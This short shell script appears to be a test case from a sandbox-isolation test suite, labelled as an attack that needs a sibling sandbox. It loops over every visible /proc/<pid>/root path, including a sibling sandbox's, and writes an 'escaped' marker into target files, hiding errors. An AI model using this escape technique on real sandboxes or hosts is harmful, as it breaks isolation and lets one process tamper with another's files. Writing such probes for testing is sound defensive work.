# attack: write through every /proc/<pid>/root the command can see, among them a sibling sandbox running at the same time ($SIBLING_PID, its host pid)
# needs: sibling
for r in /proc/[0-9]*/root "/proc/$SIBLING_PID/root"; do
	echo escaped >> "$r$TARGET"
	echo escaped > "$r$OUT/via-proc-root"
done 2>/dev/null
exit 0
